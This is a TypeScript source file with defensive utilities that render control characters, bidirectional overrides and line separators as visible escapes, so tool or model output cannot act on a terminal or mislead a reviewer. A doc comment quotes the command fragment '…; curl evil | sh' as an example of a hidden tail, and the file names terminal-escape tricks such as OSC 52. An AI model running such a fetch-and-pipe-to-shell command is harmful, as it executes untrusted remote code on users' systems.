/**
 * Text for a terminal that cannot act on it: control characters become visible escapes instead of being
 * written raw, so tool output or a model's answer cannot clear the screen, set the title, write the
 * clipboard (OSC 52), move the cursor, hide the rest of a line (NUL, CR) or reorder what a reviewer reads
 * (bidirectional overrides). Nothing is dropped: a reviewer sees every character the model saw.
 *
 * - NUL `\0`, CR `\r`, ESC `\x1b` and every other C0 control and DEL as `\xHH` (tab and newline kept);
 * - C1 controls U+0080–U+009F, the bidirectional marks, embeddings, overrides and isolates (U+061C,
 *   U+200E, U+200F, U+202A–U+202E, U+2066–U+2069), line and paragraph separators (U+2028, U+2029) as
 *   `\uHHHH`.
 */

// deno-lint-ignore no-control-regex -- matching control characters is the point
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/g;

/** `text` with every control character rendered as a visible escape; tabs and newlines are kept. */
export function visibleText(text: string): string {
  return text.replace(UNSAFE, escapeOne);
}

function escapeOne(char: string): string {
  const code = char.charCodeAt(0);
  if (code === 0) return "\\0";
  if (code === 0x0d) return "\\r";
  if (code < 0x80) return `\\x${code.toString(16).padStart(2, "0")}`;
  return `\\u${code.toString(16).padStart(4, "0")}`;
}

/**
 * One line for a person to judge (a permission title, an approver's title, a progress line): controls as
 * visible escapes, whitespace runs as one space, and when longer than `max` characters the head and the
 * tail are both kept around an explicit marker — the end of a command (`…; curl evil | sh`) is never the part
 * cut away.
 */
export function visibleLine(text: string, max: number): string {
  const flat = Array.from(visibleText(text).replace(/\s+/g, " ").trim());
  if (flat.length <= max) return flat.join("");
  const marker = (cut: number) => ` …[${cut} characters cut]… `;
  const keep = Math.max(2, max - marker(flat.length).length);
  const tail = Math.floor(keep / 2);
  const head = keep - tail;
  return flat.slice(0, head).join("") + marker(flat.length - keep) + flat.slice(flat.length - tail).join("");
}

/**
 * JSON whose text holds no character a terminal or a text view acts on: besides what JSON escapes itself,
 * DEL, C1 controls, bidirectional controls and line separators are `\uHHHH` escapes. It parses to exactly
 * the same value, so a program gets the exact arguments and a person reading the text sees them all.
 */
export function visibleJson(value: unknown): string {
  return JSON.stringify(value).replace(
    /[\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/g,
    (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}`,
  );
}
